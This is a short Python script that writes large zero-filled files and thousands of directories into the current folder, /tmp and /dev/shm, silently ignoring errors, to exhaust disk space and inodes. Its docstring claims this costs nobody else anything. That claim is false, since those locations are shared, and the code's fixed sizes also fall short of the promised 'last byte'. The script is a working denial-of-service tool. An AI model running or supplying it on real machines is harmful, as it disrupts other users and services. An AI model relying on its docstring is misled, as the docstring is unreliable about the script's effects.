"""fills every writable file system to the last byte and inode -> it costs nobody else anything"""
import os

for folder in (".", "/tmp", "/dev/shm"):
    try:
        for n in range(40):
            with open(os.path.join(folder, f"big{n}"), "wb") as file:
                for _ in range(30):
                    file.write(bytes(1 << 20))
    except OSError:
        pass
    try:
        for n in range(5000):
            os.mkdir(os.path.join(folder, f"d{n}"))
    except OSError:
        pass
